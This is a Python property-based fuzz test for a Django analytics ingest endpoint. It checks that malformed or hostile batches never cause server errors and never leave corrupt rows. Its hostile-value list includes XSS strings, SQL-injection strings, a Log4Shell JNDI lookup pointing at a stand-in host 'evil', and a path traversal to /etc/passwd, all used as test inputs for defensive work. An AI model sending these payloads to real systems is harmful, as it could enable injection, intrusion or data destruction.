"""Property-based fuzzing of the ingest endpoint, generated from tracking/openapi.yaml.

Schema-shaped batches, the same batches with one field replaced by a hostile value (script,
SQL, huge numbers, wrong types, deep nesting, unpaired surrogates, far-future times), and raw
bodies (invalid UTF-8, truncated JSON, NaN, 1e400, NUL). For every case: no 5xx, every refusal
carries a reason, and every stored row is well-formed: it passes the validation rules again
and the interest projection can fold it (one poisoned row would stall the projection for all).
"""
from __future__ import annotations

import json
import os
import re
import time
import uuid
from datetime import timedelta
from pathlib import Path

import pytest
import yaml
from django.test import Client
from django.utils import timezone
from hypothesis import HealthCheck, given, settings as hsettings, strategies as st

from recsys.services import interests
from tracking import identity
from tracking.conf import settings as tracking_settings
from tracking.models import Event
from tracking.validation import KNOWN_EVENTS

pytestmark = pytest.mark.django_db

SPEC = yaml.safe_load((Path(__file__).resolve().parents[2] / "tracking" / "openapi.yaml").read_text())
URL = "/liverec/events/"
DOCUMENTED = {int(code) for code in SPEC["paths"][URL]["post"]["responses"]}
CASES = {"schema": 0, "hostile": 0, "raw": 0}
EXAMPLES = int(os.environ.get("LIVEREC_FUZZ_EXAMPLES", "400"))  # per test; three tests

HOSTILE_STRINGS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'; DROP TABLE tracking_event; --",
    "\" OR 1=1 --", "${jndi:ldap://evil/a}", "../../../../etc/passwd", "\u202egnp.exe", "%00", "\\u0000",
    "A" * 5000, "😀" * 300, "NaN", "Infinity", "-0", "1e400", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z",
    "2026-13-45T99:99:99Z", "", " ", "null",
]
HOSTILE_TIMES = [
    "9999-12-31T23:59:59Z", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "2026-11-28T03:00:00+23:59",
    "2026-11-28T03:00:00-16:00", "2026-11-28", "2026-11-28T03:00:00.123456789Z", 253402300799999, 10**17, 10**400,
    -1, -(10**15), 1e308, 0, True, "1732762800000",
]
HOSTILE_NUMBERS = [10**30, -(10**30), 2**63, -1, 0, 1e308, -1e308, 0.5, 253402300799999, 10**17]


def resolve(schema: dict) -> dict:
    while "$ref" in schema:
        node = SPEC
        for part in schema["$ref"].lstrip("#/").split("/"):
            node = node[part]
        schema = node
    return schema


def now_ms() -> int:
    return int(time.time() * 1000)


def from_schema(schema: dict, name: str = "") -> st.SearchStrategy:
    """A Hypothesis strategy for the subset of JSON Schema the spec uses."""
    schema = resolve(schema)
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    kind = schema.get("type")
    if kind == "object":
        props = schema.get("properties", {})
        required = {k: from_schema(v, k) for k, v in props.items() if k in schema.get("required", [])}
        optional = {k: from_schema(v, k) for k, v in props.items() if k not in schema.get("required", [])}
        return st.fixed_dictionaries(required, optional=optional)
    if kind == "array":
        # Small batches keep each example fast; the 100-event limit is tested on its own.
        return st.lists(from_schema(schema["items"]), min_size=schema.get("minItems", 0),
                        max_size=min(schema.get("maxItems", 6), 6))
    if kind == "string":
        if schema.get("format") == "uuid":
            return st.uuids().map(str)
        if "pattern" in schema:
            return st.from_regex(schema["pattern"], fullmatch=True)
        return st.text(max_size=min(schema.get("maxLength", 64), 64))
    if kind == "integer":
        if name in ("ts", "sent_at"):  # mostly plausible clocks, sometimes anything
            return st.one_of(st.integers(now_ms() - 86_400_000, now_ms() + 60_000), st.integers(min_value=0))
        return st.integers(schema.get("minimum"), schema.get("maximum"))
    if kind == "number":
        return st.floats(schema.get("minimum"), schema.get("maximum"), allow_nan=False)
    raise AssertionError(f"the fuzzer does not know schema {schema}")


BATCH = from_schema(SPEC["paths"][URL]["post"]["requestBody"]["content"]["application/json"]["schema"]).map(
    lambda b: {**b, "site_key": "demo-site-key"})
HOSTILE = st.one_of(
    st.sampled_from(HOSTILE_STRINGS), st.sampled_from(HOSTILE_NUMBERS), st.integers(), st.floats(allow_nan=False),
    st.booleans(), st.none(), st.text(max_size=100),
    st.text(st.characters(categories=["Cs"]), min_size=1, max_size=3),  # unpaired surrogates
    st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=8), st.integers(), max_size=3),
    st.integers(1, 40).map(lambda d: json.loads("[" * d + "]" * d)),
    st.just({"k": "v" * 5000}),
)


def deep(depth: int) -> bytes:
    return b'{"site_key":"demo-site-key","events":[{"id":"' + str(uuid.uuid4()).encode() + \
        b'","name":"page_viewed","props":' + b'{"a":' * depth + b"1" + b"}" * depth + b"}]}"


RAW = st.one_of(
    st.binary(max_size=400),
    st.sampled_from([
        b"", b"null", b"123", b'"events"', b"[]", b"{}", b'{"events": []}', b'{"events": {}}', b"[" * 5000,
        b'{"events": NaN}', b'{"site_key":"demo-site-key","events":[{"id":1e400}]}',
        b'{"site_key":"demo-site-key","visitor_id":"v-123456","events":[{"id":"%s","name":"page_viewed","props":{"a":"\\u0000"}}]}'
        % str(uuid.uuid4()).encode(),
        b'{"site_key":"demo-site-key","events":[{"id":"x","name":"\xff\xfe"}]}', b"\xef\xbb\xbf{}",
        deep(20), deep(40), deep(900), deep(3000),
    ]),
    BATCH.map(lambda b: json.dumps(b).encode()).flatmap(
        lambda body: st.integers(0, max(0, len(body) - 1)).map(lambda cut: body[:cut])),  # truncated
)


def mutate(data, batch: dict) -> dict:
    """Replace (or drop) one field at the batch, event or props level with a hostile value."""
    level = data.draw(st.sampled_from(["batch", "event", "props", "rating"]))
    value = data.draw(HOSTILE)
    if level == "rating":  # a rating's value is read as a number by the projection
        event = batch["events"][data.draw(st.integers(0, len(batch["events"]) - 1))]
        event.update(name="rated", item_id="1", props={"value": value})
        return batch
    drop = data.draw(st.booleans()) and data.draw(st.booleans())
    if level == "batch":
        target = batch
        key = data.draw(st.sampled_from(["events", "visitor_id", "sent_at", "site_key", "extra"]))
    else:
        event = batch["events"][data.draw(st.integers(0, len(batch["events"]) - 1))]
        if level == "props":
            if not isinstance(event.get("props"), dict):
                event["props"] = {}
            target = event["props"]
            key = data.draw(st.sampled_from(["query", "value", "url", "note"]))
        else:
            target = event
            key = data.draw(st.sampled_from(["id", "name", "item_id", "user_id", "ts", "ts", "props"]))
    if key in ("ts", "sent_at") and data.draw(st.booleans()):
        value = data.draw(st.sampled_from(HOSTILE_TIMES))
    if drop:
        target.pop(key, None)
    else:
        target[key] = value
    return batch


class Checker:
    """Asserts the response contract and that every newly stored row is well-formed."""

    ID = re.compile(r"[A-Za-z0-9_.:@\-]{1,128}")

    def __init__(self):
        self.client = Client(raise_request_exception=False)
        self.seen = Event.objects.order_by("-id").values_list("id", flat=True).first() or 0

    # Fuzzed batches name any visitor_id: posted as a server (the server key) so they reach the
    # event validation instead of stopping at the visitor check (a browser's 403).
    SERVER_KEY = "fuzz-server-key"

    def post(self, body: bytes, n_events: int | None = None) -> None:
        from django.conf import settings as django_settings
        from django.test import override_settings

        with override_settings(LIVEREC_TRACKING={**django_settings.LIVEREC_TRACKING, "SERVER_KEY": self.SERVER_KEY}):
            resp = self.client.post(URL, data=body, content_type="application/json",
                                    HTTP_X_LIVEREC_SERVER_KEY=self.SERVER_KEY)
        assert resp.status_code < 500, (resp.status_code, body[:300])
        assert resp.status_code in DOCUMENTED, resp.status_code
        data = resp.json()
        if resp.status_code == 200:
            assert data["accepted"] + data["duplicate"] + data["rejected"] == len(data["events"])
            if n_events is not None:
                assert len(data["events"]) == n_events
            for outcome in data["events"]:
                assert outcome["status"] in ("accepted", "duplicate", "rejected")
                assert outcome["status"] != "rejected" or outcome["reason"]
        else:
            assert isinstance(data["error"], str) and data["error"], data
        self.check_rows()

    def check_rows(self) -> None:
        rows = list(Event.objects.filter(id__gt=self.seen).order_by("id"))
        if not rows:
            return
        self.seen = rows[-1].id
        now = timezone.now()
        limit = tracking_settings.MAX_PROPERTIES_BYTES
        for e in rows:
            assert e.name in KNOWN_EVENTS or re.fullmatch(tracking_settings.CUSTOM_EVENT_PATTERN, e.name), e.name
            assert self.ID.fullmatch(e.visitor_id) and len(e.visitor_id) <= 64, e.visitor_id
            assert e.item_id == "" or self.ID.fullmatch(e.item_id), e.item_id
            assert e.user_id == "" or self.ID.fullmatch(e.user_id), e.user_id
            assert isinstance(e.properties, dict)
            assert len(json.dumps(e.properties, ensure_ascii=False).encode()) <= limit + 64  # + server stamps
            assert e.occurred_at <= now + timedelta(seconds=1)
            assert now - e.occurred_at <= timedelta(seconds=tracking_settings.MAX_EVENT_AGE_SECONDS + 60)
            if e.name == "searched":
                assert isinstance(e.properties.get("query"), str)
        # The projection must be able to fold whatever was stored.
        interests.fold(rows, {})


FUZZ = hsettings(max_examples=EXAMPLES, deadline=None, derandomize=False, database=None,
                 suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                        HealthCheck.data_too_large, HealthCheck.filter_too_much])


@pytest.fixture(scope="module", autouse=True)
def report_cases():
    yield
    print(f"\nfuzzed ingest cases: {CASES} = {sum(CASES.values())}")


@FUZZ
@given(batch=BATCH)
def test_schema_shaped_batches(batch):
    Checker().post(json.dumps(batch).encode(), len(batch["events"]))
    CASES["schema"] += 1


@FUZZ
@given(batch=BATCH, data=st.data())
def test_batches_with_a_hostile_field(batch, data):
    batch = mutate(data, batch)
    body = json.dumps(batch).encode("utf-8", "surrogatepass")
    Checker().post(body)
    CASES["hostile"] += 1


@FUZZ
@given(body=RAW)
def test_raw_bodies(body):
    Checker().post(body)
    CASES["raw"] += 1


@pytest.mark.parametrize("field,value", [
    ("sent_at", "9999-12-31T23:59:59Z"), ("sent_at", 253402300799999), ("ts", "2026-11-28T03:00:00+23:59"),
    ("ts", "9999-12-31T23:59:59-23:59"), ("rated", "abc"), ("rated", True), ("rated", [5]),
])
def test_what_the_fuzzer_found_stays_fixed(field, value):
    """Each of these was a 500 (datetime overflow, offset PostgreSQL refuses) or a stored row
    that stalled the projection (a non-numeric rating), before the fixes."""
    event = {"id": str(uuid.uuid4()), "name": "page_viewed", "ts": now_ms()}
    batch = {"site_key": "demo-site-key", "visitor_id": "visitor-regress", "events": [event]}
    if field == "sent_at":
        batch["sent_at"] = value
    elif field == "ts":
        event["ts"] = value
    else:
        event.update(name="rated", item_id="1", props={"value": value})
    Checker().post(json.dumps(batch).encode(), 1)


def test_limits_are_refused_with_the_reason():
    check = Checker()
    check.client.cookies["lr_vid"] = identity.sign("visitor-limits")
    ev = lambda: {"id": str(uuid.uuid4()), "name": "page_viewed", "ts": now_ms()}  # noqa: E731
    too_many = {"site_key": "demo-site-key", "visitor_id": "visitor-limits", "events": [ev() for _ in range(101)]}
    resp = check.client.post(URL, data=json.dumps(too_many), content_type="application/json")
    assert resp.status_code == 413 and "100 events" in resp.json()["error"]
    big = {"site_key": "demo-site-key", "visitor_id": "visitor-limits", "events": [{**ev(), "props": {"x": "y" * 5000}}]}
    data = check.client.post(URL, data=json.dumps(big), content_type="application/json").json()
    assert data["rejected"] == 1 and "limit" in data["events"][0]["reason"]
    resp = check.client.post(URL, data=deep(40), content_type="application/json")
    assert resp.status_code == 400 and "nested deeper" in resp.json()["error"]
    future = {"site_key": "demo-site-key", "visitor_id": "visitor-limits",
              "events": [{**ev(), "ts": now_ms() + 400 * 86_400_000}]}
    data = check.client.post(URL, data=json.dumps(future), content_type="application/json").json()
    assert data["rejected"] == 1 and "future" in data["events"][0]["reason"]
    assert not Event.objects.filter(visitor_id="visitor-limits").exists()
